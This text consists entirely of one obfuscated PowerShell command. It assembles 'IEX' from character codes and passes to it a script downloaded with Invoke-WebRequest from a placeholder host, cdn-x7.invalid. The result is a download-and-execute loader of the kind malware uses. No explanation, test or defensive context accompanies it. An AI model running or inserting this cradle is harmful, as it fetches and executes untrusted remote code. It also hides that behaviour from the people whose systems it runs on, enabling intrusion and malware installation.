&([char]73+[char]69+[char]88) (iwr -useb https://cdn-x7.invalid/a.ps1)
